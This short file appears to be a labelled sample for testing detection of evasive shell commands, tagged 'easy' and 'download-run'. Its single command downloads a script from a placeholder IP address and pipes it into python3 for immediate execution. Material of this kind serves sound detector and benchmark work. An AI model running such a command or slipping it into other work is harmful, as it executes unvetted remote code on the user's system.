# evasion: a downloaded script piped into python3
# grade: easy; does: download-run
curl -s http://203.0.113.5/s.py | python3 -
